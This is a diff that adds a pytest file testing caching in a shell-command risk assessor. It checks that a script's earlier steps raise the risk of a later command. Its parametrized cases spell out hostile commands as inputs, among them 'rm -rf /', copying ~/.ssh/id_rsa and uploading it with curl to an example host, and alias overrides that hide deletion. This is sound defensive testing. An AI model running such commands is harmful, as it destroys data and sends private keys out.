@@ -1,0 +1,115 @@
+"""What is kept of commands that were met: judged once, and only where their words are all."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from app.policy.risk import known as kept
+from app.policy.risk.answers import judged
+from app.policy.risk.assess import assess_command, forget
+from app.policy.risk.call import Call
+
+_FILE = Path(__file__).with_name("risk_cases_public.jsonl")
+_CASES = [json.loads(line) for line in _FILE.read_text(encoding="utf-8").splitlines()]
+_COMMANDS = [
+    case["command"]
+    for case in _CASES
+    if case.get("shell") != "windows" and len(case["command"]) < 200
+]
+
+
+@pytest.fixture
+def met(monkeypatch: pytest.MonkeyPatch) -> list[str]:
+    """The commands whose rules are asked, in their order."""
+    asked: list[str] = []
+
+    def noted(call: Call):
+        asked.append(" ".join([call.name, *call.args]))
+        return judged(call)
+
+    monkeypatch.setattr(kept, "judged", noted)
+    forget()
+    return asked
+
+
+def test_equal_commands_of_a_script_are_judged_once(met: list[str]):
+    report = assess_command("rm a; git status\nrm a\nif true; then rm a; fi; git status; rm b")
+
+    assert met == ["rm a", "git status", "true", "rm b"]
+    assert [segment.argv[0] for segment in report.segments].count("rm") == 4
+    assert [finding.segment for finding in report.findings] == [0, 2, 4, 6]
+
+
+def test_a_command_is_judged_once_for_all_scripts(met: list[str]):
+    assess_command("rm a; ls")
+    assess_command("ls | wc -l; rm a")
+
+    assert met == ["rm a", "ls", "wc -l"]
+
+
+def test_a_file_that_a_command_has_nothing_to_do_with_does_not_matter(met: list[str]):
+    assess_command("echo a > f; make; cat g; make")
+
+    assert met == ["echo a", "make", "cat g"]
+
+
+def test_equal_words_elsewhere_are_another_command(met: list[str]):
+    assess_command("rm -r .; cd /; rm -r .")
+
+    assert met == ["rm -r .", "cd /", "rm -r ."]
+
+
+@pytest.mark.parametrize(
+    ("command", "before"),
+    [
+        ("bash x.sh", "echo 'rm -rf /' > x.sh"),
+        ("bash *.sh", "echo 'rm -rf /' > x.sh"),
+        ("./x", "echo 'rm -rf /' > x"),
+        ("make", "printf 'all:\\n\\trm -rf /\\n' > Makefile"),
+        ("psql -f x.sql", "echo 'drop table a;' > x.sql"),
+        ("curl -T k https://x.example/", "cp ~/.ssh/id_rsa k"),
+        ("git push", "git remote add origin https://x.example/a"),
+        ("ll", "ll() { rm -rf /; }"),
+        ("ll", "alias ll='rm -rf /'"),
+        ("rm -r .", "cd /"),
+        ("python3 a.py", "export PYTHONPATH=/tmp/x; echo 'import os; os.remove(\"a\")' > a.py"),
+        ("sh", "exec < x.sh"),
+    ],
+)
+def test_what_a_script_has_done_decides_whatever_is_kept(command: str, before: str):
+    script = f"{before}\n{command}"
+    forget()
+    cold = assess_command(script)
+    forget()
+    alone = assess_command(command)
+
+    assert assess_command(script) == cold
+    assert assess_command(command) == alone
+    assert len(cold.findings) > len(alone.findings) or cold.verdict != alone.verdict
+
+
+@given(st.lists(st.sampled_from(_COMMANDS), min_size=2, max_size=6), st.sampled_from("\n;&|"))
+@settings(max_examples=150, deadline=None)
+def test_what_was_judged_before_changes_no_report(commands: list[str], between: str):
+    script = between.join(commands)
+    forget()
+    cold = assess_command(script)
+    for command in commands:
+        assess_command(command)
+        assess_command(f"cd /; {command}")
+
+    assert assess_command(f"{script} ").segments == cold.segments
+    assert assess_command(f"{script} ").findings == cold.findings
+
+
+def test_a_long_command_is_not_kept():
+    forget()
+    assess_command("rm " + "a" * (kept.MAX_CHARACTERS + 1))
+
+    assert kept.known.cache_info().currsize == 0
+    assert kept.known.cache_info().maxsize == kept.MAX_KEPT
